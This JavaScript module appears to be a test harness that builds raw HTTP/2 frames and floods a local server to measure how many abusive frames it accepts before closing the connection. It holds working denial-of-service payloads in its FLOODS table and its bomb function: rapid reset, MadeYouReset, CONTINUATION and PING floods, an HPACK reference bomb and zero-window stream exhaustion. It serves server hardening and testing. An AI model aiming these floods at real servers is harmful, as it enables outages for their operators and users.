// SPDX-License-Identifier: Apache-2.0
// What may be done to a server of HTTP/2 by somebody who writes frames himself: one row a kind of
// flood, a writer of frames, and the flood itself, in clear or over TLS.
import net from "node:net";
import tls from "node:tls";

const DATA = 0, HEADERS = 1, PRIORITY = 2, RST_STREAM = 3, SETTINGS = 4, PING = 6, GOAWAY = 7, WINDOW_UPDATE = 8, CONTINUATION = 9;
const END_STREAM = 1, END_HEADERS = 4, PADDED = 8;
const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");

export function frame(type, flags, stream, payload = Buffer.alloc(0)) {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

// Fields as literals that are not indexed; each shorter than 127 octets.
export const block = (fields) =>
  Buffer.concat(fields.flatMap(([name, value]) => [Buffer.from([0, name.length]), Buffer.from(name), Buffer.from([value.length]), Buffer.from(value)]));

const head = (method, path) => block([[":method", method], [":scheme", "http"], [":authority", "127.0.0.1"], [":path", path]]);
const get = (stream, path = "/healthz") => frame(HEADERS, END_STREAM | END_HEADERS, stream, head("GET", path));
const u32 = (value) => Buffer.from([value >>> 24, value >>> 16, value >>> 8, value]);
const POST = frame(HEADERS, END_HEADERS, 1, head("POST", "/webapi/verify"));
const idOf = (i) => 2 * i + 1;

// A field of 3,900 octets, put into the table and then named by an octet each: 40 MiB in 16 KiB.
function bomb(stream) {
  const field = Buffer.concat([Buffer.from([0x40, 1, 0x78, 127]), Buffer.from([(3900 - 127) % 128 + 128, Math.floor((3900 - 127) / 128)]), Buffer.alloc(3900, "v")]);
  const begin = Buffer.concat([head("GET", "/"), field]);
  return frame(HEADERS, END_STREAM | END_HEADERS, stream, Buffer.concat([begin, Buffer.alloc(16384 - begin.length, 0x80 | 62)]));
}

// `first`: what is said before; `next(i)`: the i-th time; `frames`: how many frames that is. After
// `step` times (10) a PING is answered or the connection is over, so that what is counted is what
// the server took; 0: not so, and `times` are all. `slow`: it is cut by time.
export const FLOODS = [
  { name: "RST_STREAM (rapid reset)", frames: 2, next: (i) => Buffer.concat([get(idOf(i)), frame(RST_STREAM, 0, idOf(i), u32(8))]) },
  { name: "MadeYouReset, WINDOW_UPDATE of 0", frames: 2, next: (i) => Buffer.concat([get(idOf(i)), frame(WINDOW_UPDATE, 0, idOf(i), u32(0))]) },
  { name: "MadeYouReset, DATA after the end", frames: 2, next: (i) => Buffer.concat([get(idOf(i)), frame(DATA, 0, idOf(i), Buffer.from("x"))]) },
  { name: "malformed heads", frames: 1, next: (i) => frame(HEADERS, END_STREAM | END_HEADERS, idOf(i), block([[":method", "GET"]])) },
  { name: "CONTINUATION", frames: 1, step: 0, times: 20, first: frame(HEADERS, END_STREAM, 1, head("GET", "/")), next: () => frame(CONTINUATION, 0, 1) },
  { name: "PING", frames: 1, next: () => frame(PING, 0, 0, Buffer.from("12345678")) },
  { name: "PING answers", frames: 1, next: () => frame(PING, 1, 0, Buffer.from("12345678")) },
  { name: "SETTINGS", frames: 1, next: () => frame(SETTINGS, 0, 0) },
  { name: "empty DATA", frames: 1, first: POST, next: () => frame(DATA, 0, 1) },
  { name: "DATA of padding", frames: 1, first: POST, next: () => frame(DATA, PADDED, 1, Buffer.from([3, 0, 0, 0])) },
  { name: "stray DATA", frames: 1, first: get(1), next: () => frame(DATA, 0, 1, Buffer.from("x")) },
  { name: "WINDOW_UPDATE", frames: 1, next: () => frame(WINDOW_UPDATE, 0, 0, u32(1)) },
  { name: "PRIORITY churn", frames: 1, next: (i) => frame(PRIORITY, 0, idOf(i % 100), Buffer.from([0, 0, 0, i % 50, 16])) },
  { name: "frames of unknown type", frames: 1, next: () => frame(0x42, 0, 0, Buffer.from("?")) },
  { name: "HPACK reference bomb", frames: 1, step: 1, next: (i) => bomb(idOf(i)) },
  { name: "zero window, 100 streams", frames: 1, slow: true, step: 0, times: 100, first: frame(SETTINGS, 0, 0, Buffer.from([0, 4, 0, 0, 0, 0])), next: (i) => get(idOf(i)) },
  { name: "tiny window, 100 streams", frames: 1, slow: true, step: 0, times: 100, first: frame(SETTINGS, 0, 0, Buffer.from([0, 4, 0, 0, 0, 1])), next: (i) => get(idOf(i)) },
];

const GIVEN_UP = 20_000; // frames that a server takes for nothing
const STEP = 10;
const MARK = Buffer.from("marked\0\0"); // of our PING

// Does it until the server ends the connection: { frames, ms, code }: how many it took, how long it
// was, and the code of its GOAWAY (none: it only closed). `port` at 127.0.0.1; `ca` over TLS.
export async function flood(kind, { port, ca }) {
  const options = { host: "127.0.0.1", port, noDelay: true };
  const socket = ca ? tls.connect({ ...options, ca, ALPNProtocols: ["h2"] }) : net.connect(options);
  socket.setNoDelay(true);
  const result = { frames: 0, ms: 0, code: undefined };
  let over = false, received = Buffer.alloc(0), onMark = () => {};
  const closed = new Promise((resolve) => socket.on("close", resolve));
  socket.on("error", () => {});
  const end = () => {
    over = true;
    onMark();
  };
  socket.on("end", end);
  socket.on("close", end);
  socket.on("data", (bytes) => {
    received = Buffer.concat([received, bytes]);
    for (let len; received.length >= 9 && received.length >= 9 + (len = received.readUIntBE(0, 3)); received = received.subarray(9 + len))
      if (received[3] === GOAWAY) {
        result.code = received.readUInt32BE(13);
        end();
      } else if (received[3] === PING && received.subarray(9, 9 + len).equals(MARK)) {
        onMark();
      }
  });
  await new Promise((resolve) => socket.once(ca ? "secureConnect" : "connect", resolve));
  const began = performance.now();
  socket.write(Buffer.concat([PREFACE, frame(SETTINGS, 0, 0), kind.first ?? Buffer.alloc(0)]));
  for (let i = 0; !over && result.frames < GIVEN_UP && i < (kind.times ?? Infinity); i++) {
    socket.write(kind.next(i));
    result.frames += kind.frames;
    const step = kind.step ?? STEP;
    if (!step || i % step < step - 1) continue;
    const marked = new Promise((resolve) => (onMark = resolve));
    socket.write(frame(PING, 0, 0, MARK));
    result.frames++;
    if (!over) await marked;
  }
  if (over || kind.times) await closed;
  result.ms = performance.now() - began;
  socket.destroy();
  return result;
}
